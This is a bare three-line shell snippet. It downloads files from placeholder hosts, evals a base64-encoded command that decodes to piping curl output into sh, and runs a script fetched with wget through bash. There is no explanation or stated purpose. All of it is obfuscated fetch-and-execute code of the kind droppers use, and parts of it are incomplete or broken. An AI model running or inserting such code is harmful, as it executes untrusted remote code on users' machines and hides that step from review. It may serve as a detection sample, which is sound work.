f() { curl -so "$1" "https://$2/i"; }
for h in a.example b.example; do f x "$h"; done
eval "$(echo Y3VybCB4IHwgc2g= | base64 -d)"; bash <(wget -qO- $U) <<< "${A:-b}"
